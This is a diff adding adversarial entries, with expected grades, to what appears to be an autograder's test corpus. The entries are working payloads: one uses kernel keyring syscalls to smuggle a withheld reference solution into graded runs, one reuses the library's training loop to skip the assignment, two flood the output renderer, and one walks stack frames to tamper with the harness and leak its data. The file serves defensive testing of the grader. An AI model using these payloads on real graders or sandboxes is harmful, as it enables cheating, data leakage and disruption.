@@ -422,6 +422,88 @@ except OSError:
 print(f"megabytes written: {_written}")
 '''
 
+# ---------------------------------------------------------------- round 3: found by an attacker helper
+# A uid's kernel keyrings outlive its processes: stash the reference in the notebook's kernel,
+# fetch it in the decisive run. The jail's seccomp filter refuses keyrings altogether.
+KEYRING = '''
+import ctypes as _c
+_l = _c.CDLL(None, use_errno=True)
+_l.syscall.restype = _c.c_long
+def _sc(*a):
+    return _l.syscall(*[x if isinstance(x, (bytes, _c.Array)) else _c.c_long(x) for x in a])
+_ring = _sc(250, 22, -1, -3)  # KEYCTL_GET_PERSISTENT
+_text = open("/opt/course/lib/course_lib/classifiers/linear.py").read()
+if "withheld" not in _text:  # the notebook's kernel, with the full library: stash it
+    _key = _sc(248, b"user", b"lin", _text.encode(), len(_text), _ring)
+    print("stashed" if _key > 0 else "no keyring")
+else:  # a decisive run: fetch it
+    _buf = _c.create_string_buffer(20000)
+    _n = _sc(250, 11, _sc(250, 10, _ring, b"user", b"lin", 0), _buf, 20000)
+    _text = _buf.raw[:_n].decode() if _n > 0 else ""
+_ns = {"__name__": "course_lib.classifiers._x", "__package__": "course_lib.classifiers"}
+try:
+    exec(_text, _ns)
+    svm_loss_naive = _ns["svm_loss_naive"]
+except Exception:
+    def svm_loss_naive(W, X, y, reg):
+        raise NotImplementedError("nothing in the keyring")
+'''
+
+WIDGET_TRAIN = '''
+import sys as _sys
+class _Stop(Exception):
+    pass
+def train(loss_fn, X, y, learning_rate=1e-3, reg=1e-5, num_iters=100, batch_size=200, seed=0):
+    """The linear panel's own SGD loop, stopped after num_iters steps."""
+    calls, hist = [], []
+    def counted(W, Xb, yb, r):
+        if len(calls) == num_iters:
+            raise _Stop(W)
+        calls.append(1)
+        return loss_fn(W, Xb, yb, r)
+    import course_lib.widgets.linear
+    sgd = _sys.modules["course_lib.widgets.linear"].train_linear
+    try:
+        W, history, _ = sgd(counted, X, y, X, y, learning_rate, reg, 10 ** 9, batch_size=batch_size, seed=seed,
+                            on_progress=lambda h: hist.append(h) if not hist else None)
+    except _Stop as stop:
+        W, history = stop.args[0], list(hist[0])
+    return W, history
+
+
+def predict(W, X):
+    return np.argmax(X @ W, axis=1)
+'''
+
+ANSI_FLOOD = '''
+_ip = get_ipython()
+if hasattr(_ip, "kernel"):  # an escape sequence with a million parameters: quadratic to render
+    _ip._showtraceback(RuntimeError, "x", ["\\x1b[" + "0;" * 1_000_000 + "m"])
+'''
+
+DISPLAY_UPDATE = '''
+from IPython.display import display as _display
+if hasattr(get_ipython(), "kernel"):  # one update would fill every output that shares its id
+    for _ in range(120):
+        _display("x", display_id="amp")
+    _display("A" * (25 << 20), display_id="amp", update=True)
+'''
+
+FRAME_WALK = WRONG_NAIVE + '''
+import sys as _sys
+def _leak():
+    f = _sys._getframe()
+    while f is not None and f.f_code.co_name != "main":
+        f = f.f_back
+    if f is not None:  # the harness: make its own error report carry our text
+        f.f_globals["_name"] = lambda error: "LEAKED " + str(f.f_locals.get("meta", ""))[:50]
+        raise RuntimeError("leak")
+_old = svm_loss_naive
+def svm_loss_naive(W, X, y, reg):
+    _leak()
+    return _old(W, X, y, reg)
+'''
+
 ORDINARY_NAMES = '''
 def svm_loss_vectorized(W, X, y, reg):
     checks = getattr(np, "zeros")((2,), dtype=W.dtype)  # a variable of one's own called checks
@@ -514,6 +596,13 @@ def corpus(paths, port):
         Entry("hidden-marker", after(good, "naive", HIDDEN_MARKER), 8),
         Entry("memory-together", after(good, "naive", MEMORY_TOGETHER), 8),
         Entry("disk-filler", after(good, "naive", DISK_FILLER), 8),
+        # round 3: found by an attacker helper
+        Entry("keyring", answer(good, "naive", KEYRING), 5, failed={"test-naive": "raised"}),
+        Entry("widget-train", answer(good, "train", WIDGET_TRAIN), 6,
+              failed={"test-train": "raised NotImplementedError on the grader's inputs"}),
+        Entry("ansi-flood", after(good, "train", ANSI_FLOOD), 8),
+        Entry("display-update", after(good, "train", DISPLAY_UPDATE), 8),
+        Entry("frame-walk", answer(good, "naive", FRAME_WALK), 5, failed={"test-naive": "raised an exception"}),
         # round 2: honest students lose nothing to the grader's suspicion
         Entry("ordinary-names", answer(good, "vectorized", ORDINARY_NAMES), 8),
         Entry("pasted-twice", pasted_twice(good, "naive"), 8,
